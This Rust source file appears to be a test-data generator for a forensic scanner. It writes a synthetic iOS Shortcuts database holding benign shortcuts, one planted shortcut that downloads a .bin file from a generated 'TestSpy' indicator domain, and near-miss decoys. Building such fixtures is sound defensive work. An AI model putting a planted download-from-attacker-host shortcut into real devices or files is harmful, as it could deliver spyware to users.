//! `Shortcuts.sqlite` generator (`ZSHORTCUT`, `ZSHORTCUTACTIONS` with binary-plist actions).
//!
//! Planted: a shortcut that downloads from an indicator domain. Near misses: look-alike host, the
//! indicator only as text without a URL shape.

use ferret_core::Level;
use plist::Value;

use super::files::{db, dict, plist_bytes, pstr};
use super::values::{base_time, benign_url, evil_domain, mac};
use crate::ArtifactFile;
use crate::rng::{rng_for, word};
use crate::truth::{IndicatorKind, Truth};

/// Backup domain.
pub const DOMAIN: &str = "HomeDomain";
/// Backup relative path.
pub const REL: &str = "Library/Shortcuts/Shortcuts.sqlite";
/// Filesystem-dump path.
pub const FS: &str = "private/var/mobile/Library/Shortcuts/Shortcuts.sqlite";

/// Schema (subset of the Core Data columns).
pub const SCHEMA: &str = "CREATE TABLE ZSHORTCUT (Z_PK INTEGER PRIMARY KEY, Z_ENT INTEGER, Z_OPT INTEGER, ZNAME VARCHAR, \
    ZCREATIONDATE TIMESTAMP, ZMODIFICATIONDATE TIMESTAMP, ZACTIONSDESCRIPTION VARCHAR, ZACTIONCOUNT INTEGER); \
    CREATE TABLE ZSHORTCUTACTIONS (Z_PK INTEGER PRIMARY KEY, Z_ENT INTEGER, Z_OPT INTEGER, ZSHORTCUT INTEGER, ZDATA BLOB);";

fn action(id: &str, params: Vec<(&str, Value)>) -> Value {
    dict(vec![("WFWorkflowActionIdentifier", pstr(id)), ("WFWorkflowActionParameters", dict(params))])
}

/// Generates `count` benign shortcuts plus the planted cases.
pub fn generate(seed: u64, count: usize, truth: &mut Truth) -> Vec<ArtifactFile> {
    let mut rng = rng_for(seed, "ios/shortcuts");
    let t0 = base_time(&mut rng);
    let dom = evil_domain(&mut rng);
    truth.plant(IndicatorKind::Domain, dom.clone(), "TestSpy");
    let bad = format!("https://dl.{dom}/p/{}.bin", word(&mut rng, 6));
    truth.expect("shortcuts", Level::Critical, Some(&dom), bad.clone());
    let mut items: Vec<(String, Vec<Value>)> = (0..count)
        .map(|i| {
            let u = benign_url(&mut rng);
            let acts = vec![
                action("is.workflow.actions.url", vec![("WFURLActionURL", pstr(&u))]),
                action("is.workflow.actions.openurl", vec![]),
                action("is.workflow.actions.comment", vec![("WFCommentActionText", pstr(&format!("note {i}")))]),
            ];
            (format!("Shortcut {}", word(&mut rng, 5)), acts)
        })
        .collect();
    items.push((
        "h7sc-planted".into(),
        vec![
            action("is.workflow.actions.downloadurl", vec![("WFURL", pstr(&bad)), ("Advanced", Value::Boolean(true))]),
            action("is.workflow.actions.runjavascriptonwebpage", vec![("WFJavaScript", pstr("completion(1)"))]),
        ],
    ));
    items.push((
        "h7sc-near".into(),
        vec![action(
            "is.workflow.actions.url",
            vec![("WFURLActionURL", pstr(&format!("https://{}{dom}/x", word(&mut rng, 2))))],
        )],
    ));
    items.push((
        "h7sc-text".into(),
        vec![action("is.workflow.actions.comment", vec![("WFCommentActionText", pstr(&dom.replace('.', " ")))])],
    ));
    vec![db(DOMAIN, REL, FS, t0, |c| {
        c.execute_batch(SCHEMA)?;
        for (i, (name, acts)) in items.iter().enumerate() {
            let id = i as i64 + 1;
            c.execute(
                "INSERT INTO ZSHORTCUT (Z_PK, Z_ENT, Z_OPT, ZNAME, ZCREATIONDATE, ZMODIFICATIONDATE, ZACTIONSDESCRIPTION, ZACTIONCOUNT) VALUES (?1, 1, 1, ?2, ?3, ?4, ?5, ?6)",
                rusqlite::params![id, name, mac(t0 + i as i64 * 1000), mac(t0 + i as i64 * 1000 + 60), format!("{} actions", acts.len()), acts.len() as i64],
            )?;
            c.execute(
                "INSERT INTO ZSHORTCUTACTIONS (Z_ENT, Z_OPT, ZSHORTCUT, ZDATA) VALUES (2, 1, ?1, ?2)",
                rusqlite::params![id, plist_bytes(&Value::Array(acts.clone()))],
            )?;
        }
        Ok(())
    })]
}
